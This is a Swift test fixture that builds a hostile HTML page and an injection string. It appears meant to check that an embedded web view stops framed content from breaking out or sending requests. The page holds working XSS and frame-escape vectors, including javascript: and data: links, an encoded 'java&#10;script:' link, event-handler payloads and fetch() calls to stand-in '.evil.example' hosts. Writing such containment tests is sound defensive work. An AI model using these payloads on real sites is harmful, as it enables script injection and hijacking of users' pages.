/// A page that tries everything to get out of its frame, and to have others asked for something. What it would do tells itself
/// by the names of hosts that end in `.evil.example`, and by `hacked`.
enum HostilePage {
  static func html(linkingTo item: String) -> String {
    """
    <!DOCTYPE html>
    <html><head><meta charset="utf-8">
    <base target="_top">
    <meta http-equiv="refresh" content="0; url=http://refresh.evil.example/">
    <script>parent.hacked = top.hacked = true; fetch("http://script.evil.example/"); top.location = "http://top.evil.example/";</script>
    <script src="http://source.evil.example/x.js"></script>
    <title>Hostile</title></head>
    <body onload="top.hacked = true" onpageshow="top.hacked = true">
    <h1>Hostile</h1>
    <img src="nowhere.png" onerror="top.hacked = true; fetch('http://onerror.evil.example/')" alt="">
    <svg onload="top.hacked = true"><script>top.hacked = true</script>
      <a id="svg" href="javascript:top.hacked = true"><text y="20">drawn</text></a></svg>
    <p><a id="script" href="javascript:top.hacked = true">script</a></p>
    <p><a id="script-top" target="_top" href="&#106;ava&#10;script:top.hacked = true">script</a></p>
    <p><a id="data" href="data:text/html,<script>opener.hacked = true</script>">data</a></p>
    <p><a id="blank" target="_blank" href="http://blank.evil.example/">blank</a></p>
    <p><a id="top" target="_top" href="http://top.evil.example/">top</a></p>
    <p><a id="ping" ping="http://ping.evil.example/" href="\(item)">an item</a></p>
    <form action="http://form.evil.example/" target="_top"><button id="submit">send</button></form>
    <form action="\(item)" target="_top"><button id="home" formaction="http://form.evil.example/">send</button></form>
    <details open ontoggle="top.hacked = true"><summary>more</summary></details>
    <iframe srcdoc="<script>top.hacked = true</script>"></iframe>
    <object data="javascript:top.hacked = true"></object>
    <embed src="javascript:top.hacked = true">
    <p>The end</p>
    </body></html>
    """
  }

  /// What a title, a body or a caption might hold.
  static let text = #"</script><script>top.hacked=1</script><img src=x onerror=top.hacked=1>"'&amp;"#
}
